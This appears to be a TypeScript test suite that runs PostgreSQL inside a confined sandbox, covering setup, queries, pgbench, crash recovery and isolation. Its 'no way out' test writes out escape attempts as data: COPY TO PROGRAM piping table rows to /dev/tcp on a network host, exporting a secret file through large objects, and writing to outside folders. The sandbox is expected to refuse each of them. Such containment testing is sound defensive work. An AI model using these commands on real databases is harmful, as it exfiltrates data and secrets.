/** PostgreSQL: a cluster, queries by socket and by TCP, pgbench; server and clients are runs of one label. */
import { deepStrictEqual, match, strictEqual } from "node:assert";
import { readdirSync } from "node:fs";
import { ADDRESS, type Attempt, PORT, type Server, type Stage } from "./stage.ts";
import type { Program } from "./suite.ts";

/** The server refuses to be root; any user that has a name will do. */
const USER = 65534;
const AS_USER = { user: USER };

export function bin(name: string): string {
  const versions = readdirSync("/usr/lib/postgresql").sort((a, b) => Number(a) - Number(b));
  return `/usr/lib/postgresql/${versions.at(-1)}/bin/${name}`;
}

function serve(stage: Stage): Promise<Server> {
  const argv = [bin("postgres"), "-D", `${stage.data}/cluster`, "-k", stage.data, "-h", "127.0.0.1"];
  return stage.serve(argv, /ready to accept connections/, AS_USER);
}

const psql = (stage: Stage, sql: string, host = stage.data) =>
  [bin("psql"), "-XAt", "-v", "ON_ERROR_STOP=1", "-h", host, "-U", "clinic", "postgres", "-c", sql] as const;

let server: Server | undefined;

export const postgresql: Program = [
  {
    name: "a cluster is made and started",
    async run(stage) {
      await stage.open("chmod 700 .", USER);
      await stage.ok(
        [
          bin("initdb"),
          "-D",
          `${stage.data}/cluster`,
          "-U",
          "clinic",
          "-A",
          "trust",
          "--no-locale",
          "-E",
          "UTF8",
        ],
        AS_USER,
      );
      server = await serve(stage);
    },
  },
  {
    name: "queries by Unix socket and by TCP, notifications, parallel workers",
    async run(stage) {
      await stage.ok(
        psql(
          stage,
          "create table patient(id int primary key, name text); insert into patient select n, 'p' || n from generate_series(1, 5000) n; create index on patient(name)",
        ),
        AS_USER,
      );
      strictEqual(
        await stage.ok(psql(stage, "select count(*), sum(id) from patient", "127.0.0.1"), AS_USER),
        "5000|12502500\n",
      );
      strictEqual(
        await stage.ok(
          psql(
            stage,
            `copy patient to '${stage.data}/patients'; select length(pg_read_file('${stage.data}/secret'))`,
          ),
          AS_USER,
        ),
        "COPY 5000\n17\n",
      );
      strictEqual((await stage.shell("wc -l < patients", AS_USER)).trim(), "5000");
      match(
        await stage
          .ok(
            psql(
              stage,
              "set debug_parallel_query = on; set force_parallel_mode = on; set max_parallel_workers_per_gather = 2; select count(*) from patient",
            ),
            AS_USER,
          )
          .catch(() =>
            stage.ok(
              psql(
                stage,
                "set max_parallel_workers_per_gather = 2; set parallel_setup_cost = 0; set parallel_tuple_cost = 0; set min_parallel_table_scan_size = 0; select count(*) from patient",
              ),
              AS_USER,
            ),
          ),
        /^5000$/m,
      );
    },
  },
  {
    name: "pgbench",
    async run(stage) {
      const args = ["-h", stage.data, "-U", "clinic", "postgres"];
      await stage.ok([bin("pgbench"), "-q", "-i", "-s", "1", ...args], AS_USER);
      const summary = await stage.ok(
        [bin("pgbench"), "-c", "2", "-j", "2", "-t", "20", "-n", ...args],
        AS_USER,
      );
      match(summary, /number of transactions actually processed: 40\/40/);
      match(summary, /tps = /);
      match(
        await stage.ok(
          [bin("pgbench"), "-S", "-c", "2", "-t", "50", "-n", "-h", "127.0.0.1", "-U", "clinic", "postgres"],
          AS_USER,
        ),
        /processed: 100\/100/,
      );
    },
  },
  {
    name: "no client from outside its label",
    async run(stage) {
      const { bench } = stage;
      const ask = `${bin("psql")} -XAt -U clinic postgres -c 'select 1'`;
      for (const host of ["127.0.0.1", stage.data]) {
        const outside = await bench.shell(`PGCONNECT_TIMEOUT=5 ${ask} -h ${host}`);
        deepStrictEqual([host, outside.code, outside.out], [host, 2, ""]);
      }
      await bench.ok("tag", "create", "soft/nobody");
      const other = await stage.run(psql(stage, "select 1"), {
        ...AS_USER,
        tags: "soft/nobody",
        folder: "/",
      });
      deepStrictEqual([other.code, other.out], [2, ""]);
    },
  },
  {
    name: "no way out: COPY, COPY TO PROGRAM, large objects, \\copy, extensions, logs, archives",
    async run(stage) {
      const attempt = (what: string, sql: string, refused: Attempt["refused"] = "folder") => ({
        what,
        argv: psql(stage, sql),
        refused,
        options: AS_USER,
      });
      await stage.noWayOut([
        attempt("copy", `copy patient to '${stage.out}/c'`),
        attempt("copy to program", `copy patient to program 'cat > ${stage.out}/p'`),
        attempt(
          "large object",
          `do $$ declare o oid := lo_from_bytea(0, pg_read_binary_file('${stage.data}/secret')); begin perform lo_export(o, '${stage.out}/l'); end $$`,
        ),
        attempt("\\copy", `\\copy patient to '${stage.out}/k'`),
        attempt("tablespace", `create tablespace t location '${stage.out}'`),
        attempt(
          "program to the network",
          `copy patient to program 'bash -c "cat > /dev/tcp/${ADDRESS}/${PORT}"'`,
          "network",
        ),
        attempt("psql's output", `\\o ${stage.out}/o`),
        attempt("the log", `alter system set log_directory = '${stage.out}'`, null),
      ]);
      await stage.run(psql(stage, "alter system reset all"), AS_USER);
    },
  },
  {
    name: "the server ends in order, and recovers after a kill",
    async run(stage) {
      strictEqual((await server!.stop("SIGINT")).code, 0);
      match(server!.out(), /database system is shut down/);
      server = await serve(stage);
      await stage.ok(psql(stage, "insert into patient values (0, 'last')"), AS_USER);
      await server.stop("SIGKILL");
      server = await serve(stage);
      match(server.out(), /automatic recovery in progress|not properly shut down/);
      strictEqual(await stage.ok(psql(stage, "select name from patient where id = 0"), AS_USER), "last\n");
      await server.stop("SIGINT");
    },
  },
];
